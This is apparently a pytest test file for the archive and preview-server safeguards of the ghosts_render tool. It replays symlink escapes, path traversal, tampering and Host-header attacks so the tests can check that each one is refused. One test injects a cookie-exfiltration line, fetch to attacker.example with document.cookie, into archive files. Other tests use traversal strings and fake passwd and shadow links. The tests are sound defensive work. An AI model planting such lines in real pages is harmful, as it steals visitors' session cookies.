"""Nothing lost, nothing escapes: each test replays an attack or an accident on a real archive.

Renders run the real command on the bundled demo models (a few seconds for 10 messages); the
archive tests build a small archive with the real `site` and manifest code.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from ghosts_render.archive.folder import check_replaceable, read_manifest, write_manifest
from ghosts_render.archive.model import Manifest
from ghosts_render.archive.site import write_site
from ghosts_render.cli import app
from ghosts_render.errors import ArchiveError
from ghosts_render.files import dump_json, sha256_file

# --------------------------------------------------------------------------- helpers


def make_archive(folder: Path, texts: tuple[str, ...] = ("hello", "here I am")) -> Path:
    """A rendered-looking archive: conversation, media, the real player and a manifest."""
    (folder / "media" / "sounds").mkdir(parents=True)
    (folder / "media" / "sounds" / "tone.mp3").write_bytes(b"ID3 not really a sound")
    messages = [
        {"id": f"m{i:05d}", "run": 0, "sender": ("artist", "scientist")[i % 2], "text": t,
         "writing_at": 1000 * i, "at": 1000 * i + 500, "sound": {"src": "media/sounds/tone.mp3"}}
        for i, t in enumerate(texts)
    ]  # fmt: skip
    doc = {
        "format": "ghosts-render/conversation", "version": 1, "title": "ghosts",
        "roles": {"artist": {"label": "artist", "side": "right", "color": "cyan"},
                  "scientist": {"label": "scientist", "side": "left", "color": "green"}},
        "duration": 1000 * len(texts) + 2000, "player": {}, "messages": messages,
    }  # fmt: skip
    (folder / "conversation.json").write_text(dump_json(doc), encoding="utf-8")
    write_site(folder)
    write_manifest(folder, Manifest(fingerprint="f" * 64))
    return folder


def cli(*args: Any) -> Any:
    """Run a subcommand in-process; return the result (exit_code, stdout, stderr)."""
    return CliRunner().invoke(app, [str(a) for a in args])


def one_line(result: Any, *expected: str) -> None:
    """The command failed with one line on stderr that says each expected thing."""
    assert result.exit_code == 1, result.output
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    for text in expected:
        assert text in lines[0], lines[0]


def render(out: Path, *args: str, limit_file_bytes: int | None = None) -> subprocess.Popen:
    """Start a real demo render into `out` (cwd: its parent folder)."""
    cmd = [sys.executable, "-m", "ghosts_render", "--out", str(out), "-q", "--seed", "3", *args]
    env = {**os.environ, "OMP_NUM_THREADS": "1"}

    def limit() -> None:  # a full disk, as far as one file is concerned: writes fail EFBIG
        if limit_file_bytes is not None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (limit_file_bytes, limit_file_bytes))

    return subprocess.Popen(
        cmd,
        cwd=out.parent,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=limit,
    )


def finished(proc: subprocess.Popen) -> tuple[int, str]:
    _, stderr = proc.communicate(timeout=600)
    return proc.returncode, stderr


def failed_with_one_line(code: int, stderr: str, *expected: str) -> None:
    """Exit 1 and one error line (the demo models' warnings aside) saying each expected thing."""
    lines = [line for line in stderr.strip().splitlines() if ": warning: " not in line]
    assert code == 1 and len(lines) == 1, stderr
    for text in expected:
        assert text in lines[0], lines[0]


def digest(archive: Path) -> dict[str, str]:
    return {
        p.relative_to(archive).as_posix(): sha256_file(p)
        for p in sorted(archive.rglob("*"))
        if p.is_file() and p.name != "manifest.json"
    }


def wait_for(ready: Any, proc: subprocess.Popen, timeout_s: float = 300) -> None:
    deadline = time.monotonic() + timeout_s
    while not ready():
        assert proc.poll() is None, proc.communicate()[1]
        assert time.monotonic() < deadline
        time.sleep(0.02)


# --------------------------------------------------------------------------- 1. OUT.partial


@pytest.mark.parametrize("fresh", [False, True])
def test_a_users_folder_named_out_partial_is_never_deleted(tmp_path: Path, fresh: bool) -> None:
    (tmp_path / "show.partial").mkdir()
    (tmp_path / "show.partial" / "t.txt").write_text("x")
    args = ("--turns", "10", *(["--fresh"] if fresh else []))
    code, stderr = finished(render(tmp_path / "show", *args))
    failed_with_one_line(code, stderr, "show.partial", "not made by ghosts-render")
    assert (tmp_path / "show.partial" / "t.txt").read_text() == "x"
    assert not (tmp_path / "show").exists()


@pytest.mark.parametrize("kind", ["file", "symlink"])
def test_out_partial_that_is_a_file_or_a_link_is_one_line(tmp_path: Path, kind: str) -> None:
    target = tmp_path / "elsewhere"
    target.mkdir()
    (target / "keep.txt").write_text("mine")
    work = tmp_path / "show.partial"
    if kind == "file":
        work.write_text("mine")
    else:
        work.symlink_to(target)
    code, stderr = finished(render(tmp_path / "show", "--turns", "10", "--fresh"))
    failed_with_one_line(code, stderr, "is a file" if kind == "file" else "is a symbolic link")
    assert (target / "keep.txt").read_text() == "mine"
    assert work.is_symlink() if kind == "symlink" else work.read_text() == "mine"


def test_an_empty_out_partial_is_taken_over_and_the_lock_is_exclusive(tmp_path: Path) -> None:
    from ghosts_render.render.workdir import is_work_dir, open_work_dir

    (tmp_path / "show.partial").mkdir()  # e.g. a render killed right after making it
    with open_work_dir(tmp_path / "show", "f" * 64, fresh=False) as work:
        assert is_work_dir(work)
        with (
            pytest.raises(ArchiveError, match="another ghosts-render is rendering"),
            open_work_dir(tmp_path / "show", "f" * 64, fresh=True),
        ):
            pass
        assert (work / "state" / "fingerprint").is_file()  # the refused call touched nothing
    with open_work_dir(tmp_path / "show", "f" * 64, fresh=False):  # released on exit
        pass


# --------------------------------------------------------------------------- 2. hidden files


@pytest.mark.parametrize("name", [".htaccess", ".nojekyll", "media/.notes"])
def test_hidden_files_make_an_archive_the_users(tmp_path: Path, name: str) -> None:
    out = make_archive(tmp_path / "show")
    (out / name).write_text("a person wrote this")
    with pytest.raises(ArchiveError, match=name.replace(".", r"\.")):
        check_replaceable(out)
    result = cli("check", out)  # an unrecorded file is a failure that says what to do
    one_line(result, name, "not listed in manifest.json", "ghosts-render site")
    assert cli("site", out).exit_code == 0  # site records it and marks the archive edited
    assert name in read_manifest(out)["files"] and read_manifest(out)["edited"] is True
    assert cli("check", out).exit_code == 0
    with pytest.raises(ArchiveError, match="curated"):
        check_replaceable(out)
    assert (out / name).read_text() == "a person wrote this"


# --------------------------------------------------------------------------- 3-4. symlinks


def test_site_never_writes_through_a_folder_link(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "player.js").write_text("my own script")
    shutil.rmtree(out / "assets")
    (out / "assets").symlink_to(elsewhere)
    one_line(cli("site", out), "assets", "outside the archive")
    assert sorted(p.name for p in elsewhere.iterdir()) == ["player.js"]
    assert (elsewhere / "player.js").read_text() == "my own script"


def test_site_never_publishes_a_file_linked_from_outside(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    secret = tmp_path / "passwd"
    secret.write_text("root:SECRET:0:0")
    (out / "about.md").symlink_to(secret)
    one_line(cli("site", out), "about.md", "outside the archive")
    assert "SECRET" not in (out / "about.html").read_text()


def test_check_refuses_a_media_file_linked_from_outside(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    outside = tmp_path / "outside.mp3"
    outside.write_bytes((out / "media/sounds/tone.mp3").read_bytes())
    (out / "media/sounds/tone.mp3").unlink()
    (out / "media/sounds/tone.mp3").symlink_to(outside)
    one_line(cli("check", out), "media/sounds/tone.mp3", "outside the archive")
    one_line(cli("site", out), "tone.mp3", "outside the archive")
    assert "media/sounds/tone.mp3" in read_manifest(out)["files"]  # the old record stays
    assert read_manifest(out)["files"]["media/sounds/tone.mp3"]["sha256"] == sha256_file(outside)


@pytest.fixture
def preview(tmp_path: Path) -> Any:
    """`ghosts-render preview` on an archive with a folder link to secrets; yields a GET."""
    out = make_archive(tmp_path / "show")
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "shadow").write_text("root:SECRET")
    (out / "linked").symlink_to(secrets)
    (out / "media" / "sounds" / "link.mp3").symlink_to(secrets / "shadow")
    cmd = [sys.executable, "-m", "ghosts_render", "preview", str(out), "--port", "0"]
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    assert proc.stdout is not None
    url = proc.stdout.readline().strip()
    port = int(url.rsplit(":", 1)[1].strip("/"))

    def get(path: str, host: str = f"127.0.0.1:{port}") -> tuple[int, bytes]:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        conn.request("GET", path, headers={"Host": host})
        response = conn.getresponse()
        body = response.read()
        conn.close()
        return response.status, body

    yield get
    proc.send_signal(signal.SIGINT)
    proc.communicate(timeout=30)


def test_preview_serves_only_regular_files_inside_the_archive(preview: Any) -> None:
    status, body = preview("/")
    assert status == 200 and b"<html" in body
    assert preview("/assets/player.js")[0] == 200
    for path in ("/linked/shadow", "/media/sounds/link.mp3", "/linked/", "/media/", "/media"):
        status, body = preview(path)
        assert status == 404 and b"SECRET" not in body and b"tone.mp3" not in body, path


def test_preview_answers_only_to_local_host_names(preview: Any) -> None:
    assert preview("/", host="localhost")[0] == 200
    status, body = preview("/", host="attacker.example:8000")
    assert status == 421 and b"player.js" not in body


def test_preview_port_out_of_range_is_one_line(tmp_path: Path) -> None:
    one_line(cli("preview", make_archive(tmp_path / "show"), "--port", "99999"), "--port 99999")


# --------------------------------------------------------------------------- 5. dot segments


def test_percent_encoded_dot_segments_do_not_escape(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    decoy = out / "media" / "%2e%2e" / "%2e%2e"
    decoy.mkdir(parents=True)
    (decoy / "outside.jpg").write_bytes(b"decoy")
    (tmp_path / "outside.jpg").write_bytes(b"the archive's parent")
    doc = json.loads((out / "conversation.json").read_text())
    doc["messages"][1]["selfie"] = {"seed": 1, "src": "media/%2e%2e/%2e%2e/outside.jpg",
                                    "width": 8, "height": 8, "alt": "x"}  # fmt: skip
    (out / "conversation.json").write_text(dump_json(doc))
    one_line(cli("check", out), "media/%2e%2e/%2e%2e/outside.jpg", "inside the archive")
    one_line(cli("site", out), "media/%2e%2e/%2e%2e/outside.jpg", "inside the archive")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ('["../../outside.woff2"]', "'../../outside.woff2'"),
        ("not json", "not readable JSON"),
        ('{"body": "a.woff2"}', "should be a list of font file names"),
    ],
)
def test_a_tampered_fonts_json_is_one_line(tmp_path: Path, content: str, expected: str) -> None:
    out = make_archive(tmp_path / "show")
    (out / "assets" / "fonts").mkdir()
    (out / "assets" / "fonts" / "fonts.json").write_text(content)
    (tmp_path / "outside.woff2").write_bytes(b"wOF2")
    one_line(cli("site", out), "fonts.json", expected)
    assert not (out / "assets" / "fonts.css").exists()


# --------------------------------------------------------------------------- 6. check


@pytest.mark.parametrize("tamper", ["assets/player.js", "media/sounds/tone.mp3", "extra.js"])
def test_check_fails_on_a_tampered_or_unknown_file(tmp_path: Path, tamper: str) -> None:
    out = make_archive(tmp_path / "show")
    assert cli("check", out).exit_code == 0
    with (out / tamper).open("a") as fh:
        fh.write("fetch('https://attacker.example/?' + document.cookie);\n")
    one_line(cli("-q", "check", out), tamper)


def test_check_explains_curation_but_not_other_changes(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    doc = json.loads((out / "conversation.json").read_text())
    doc["messages"][0]["text"] = "curated"
    (out / "conversation.json").write_text(dump_json(doc))
    one_line(cli("check", out), "conversation.json", "ghosts-render site")  # not rebuilt yet
    assert cli("site", out).exit_code == 0
    assert cli("check", out).exit_code == 0
    doc["messages"][0]["text"] = "curated again"  # edited archive: curation explains this
    (out / "conversation.json").write_text(dump_json(doc))
    assert cli("check", out).exit_code == 0
    (out / "media/sounds/tone.mp3").write_bytes(b"another sound")  # but not this
    one_line(cli("check", out), "media/sounds/tone.mp3")


def test_a_damaged_manifest_or_a_deeply_nested_conversation_is_one_line(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    manifest = json.loads((out / "manifest.json").read_text())
    manifest["files"] = list(manifest["files"])
    (out / "manifest.json").write_text(json.dumps(manifest))
    one_line(cli("check", out), "manifest.json", '"files"')
    # site cannot rebuild from that manifest, so its advice must not be "run site"
    one_line(cli("site", out), "manifest.json", '"files"', "delete it and run")
    (out / "conversation.json").write_text("[" * 100_000 + "]" * 100_000)
    one_line(cli("check", out), "conversation.json", "nested too deeply")
    one_line(cli("site", out), "conversation.json", "nested too deeply")


# --------------------------------------------------------------------------- 9-10. site


def test_site_keeps_hand_edits_to_generated_files_and_says_so(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    (out / "about.html").write_text("<p>my own words</p>")
    with (out / "assets" / "player.css").open("a") as fh:
        fh.write("body { background: red; }\n")
    css = (out / "assets" / "player.css").read_text()
    result = cli("site", out)
    assert result.exit_code == 0
    assert "about.html" in result.stderr and "assets/player.css" in result.stderr
    assert (out / "about.html").read_text() == "<p>my own words</p>"
    assert (out / "assets" / "player.css").read_text() == css
    assert read_manifest(out)["hand_edited"] == ["about.html", "assets/player.css"]
    assert cli("site", out).exit_code == 0  # still kept on the next rebuild
    assert (out / "about.html").read_text() == "<p>my own words</p>"
    (out / "about.html").unlink()  # deleting one asks for it to be generated again
    assert cli("site", out).exit_code == 0
    assert "my own words" not in (out / "about.html").read_text()
    assert read_manifest(out)["hand_edited"] == ["assets/player.css"]
    assert cli("check", out).exit_code == 0


def test_a_message_text_over_the_maximum_is_one_line(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    doc = json.loads((out / "conversation.json").read_text())
    doc["messages"][1]["text"] = "x" * 10_001
    (out / "conversation.json").write_text(dump_json(doc))
    one_line(cli("check", out), "message #1", "10001 characters", "10000")
    one_line(cli("site", out), "message #1", "10001 characters", "10000")


def test_site_that_cannot_write_is_one_line_and_a_rerun_finishes(tmp_path: Path) -> None:
    out = make_archive(tmp_path / "show")
    doc = json.loads((out / "conversation.json").read_text())
    doc["messages"][0]["text"] = "curated"
    (out / "conversation.json").write_text(dump_json(doc))

    def full_disk() -> None:  # every write over 100 bytes fails EFBIG, as on a full disk
        resource.setrlimit(resource.RLIMIT_FSIZE, (100, 100))

    proc = subprocess.run(
        [sys.executable, "-m", "ghosts_render", "site", str(out)],
        capture_output=True, text=True, preexec_fn=full_disk, timeout=300,
    )  # fmt: skip
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    last = proc.stderr.strip().splitlines()[-1]  # after site's notes (no public_url, ...)
    assert last.startswith("ghosts-render: error: cannot write") and "`ghosts-render site`" in last
    assert cli("site", out).exit_code == 0
    assert "curated" in (out / "conversation.js").read_text()
    assert cli("check", out).exit_code == 0


# --------------------------------------------------------------------------- 7-8. renders


def test_a_second_render_into_the_same_folder_is_refused_and_ctrl_c_resumes(
    tmp_path: Path,
) -> None:
    out = tmp_path / "show"
    texts = tmp_path / "show.partial" / "state" / "text"

    def saving_text() -> bool:
        return texts.is_dir() and any(texts.glob("*.progress.json"))

    first = render(out, "--turns", "2000")
    wait_for(saving_text, first)
    code, stderr = finished(render(out, "--turns", "2000"))
    failed_with_one_line(code, stderr, "another ghosts-render is rendering into")
    assert first.poll() is None  # the first render was not disturbed
    first.send_signal(signal.SIGINT)
    code, stderr = finished(first)
    assert code == 130, stderr
    assert stderr.strip().splitlines()[-1].endswith("run the same command again to resume")
    assert saving_text()


def test_a_full_disk_is_one_line_and_the_render_resumes_exactly(tmp_path: Path) -> None:
    (tmp_path / "ref").mkdir()
    reference = render(tmp_path / "ref" / "show", "--turns", "10")  # beside the next one
    out = tmp_path / "show"
    code, stderr = finished(render(out, "--turns", "10", limit_file_bytes=20_000))
    ref_code, ref_stderr = finished(reference)
    assert ref_code == 0, ref_stderr
    failed_with_one_line(
        code, stderr, "cannot write", str(tmp_path / "show.partial"), "run the same command again"
    )
    assert not out.exists()
    code, stderr = finished(render(out, "--turns", "10"))
    assert code == 0, stderr
    assert digest(out) == digest(tmp_path / "ref" / "show")


@contextlib.contextmanager
def read_only_folder(parent: Path) -> Iterator[None]:
    """Make ``parent`` a folder no render can write into: a read-only tmpfs as root (root writes
    through folder permissions), else folder permissions."""
    parent.mkdir()
    if os.geteuid() != 0:
        parent.chmod(0o555)
        try:
            yield
        finally:
            parent.chmod(0o755)
        return
    mount = ["mount", "-t", "tmpfs", "-o", "ro,size=1m", "tmpfs", str(parent)]
    if subprocess.run(mount, capture_output=True).returncode != 0:
        pytest.skip("root here cannot mount a read-only tmpfs to write into")
    try:
        yield
    finally:
        subprocess.run(["umount", str(parent)], check=True)


def test_a_read_only_output_folder_is_one_line(tmp_path: Path) -> None:
    parent = tmp_path / "ro"
    with read_only_folder(parent):
        code, stderr = finished(render(parent / "show", "--turns", "10"))
    failed_with_one_line(code, stderr, "cannot write", str(parent / "show.partial"))
